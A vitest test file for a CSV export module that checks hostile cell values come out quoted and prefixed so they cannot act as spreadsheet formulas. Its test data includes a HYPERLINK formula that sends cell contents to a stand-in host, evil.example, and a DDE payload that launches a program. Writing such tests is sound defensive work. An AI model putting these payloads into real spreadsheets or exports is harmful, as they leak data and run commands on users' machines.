import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvRows } from "./csv-rows";
import { csvStream } from "./csv-stream";

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+1+2",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "=cmd|' /C calc'!A0",
  'plain, with "quotes", commas\nand a newline',
  "",
];

describe("csvRows", () => {
  it("quotes every cell and round-trips hostile values with no cell starting a formula", () => {
    const text = csvRows([HOSTILE]);
    expect(text.startsWith('"')).toBe(true);
    const [row] = parse(text, { relax_quotes: false }) as string[][];
    expect(row).toHaveLength(HOSTILE.length);
    row!.forEach((cell, i) => {
      expect(/^[=+\-@\t\r]/.test(cell)).toBe(false);
      const original = HOSTILE[i]!;
      expect(cell === original || cell === `'${original}`).toBe(true);
    });
    expect(text.endsWith("\r\n")).toBe(true);
    // Every cell is quoted, empty ones included.
    expect(text).toContain('""\r\n');
  });
});

describe("csvStream", () => {
  it("streams a header then each batch, and counts the rows", async () => {
    let counted = -1;
    async function* batches() {
      yield [["1", "=a"]];
      yield [
        ["2", "b"],
        ["3", "c"],
      ];
    }
    const stream = csvStream({ header: ["n", "v"], batches: batches(), onDone: (n) => (counted = n) });
    const text = await new Response(stream).text();
    expect(parse(text.replace(/^\uFEFF/, ""))).toEqual([
      ["n", "v"],
      ["1", "'=a"],
      ["2", "b"],
      ["3", "c"],
    ]);
    expect(counted).toBe(3);
  });
});
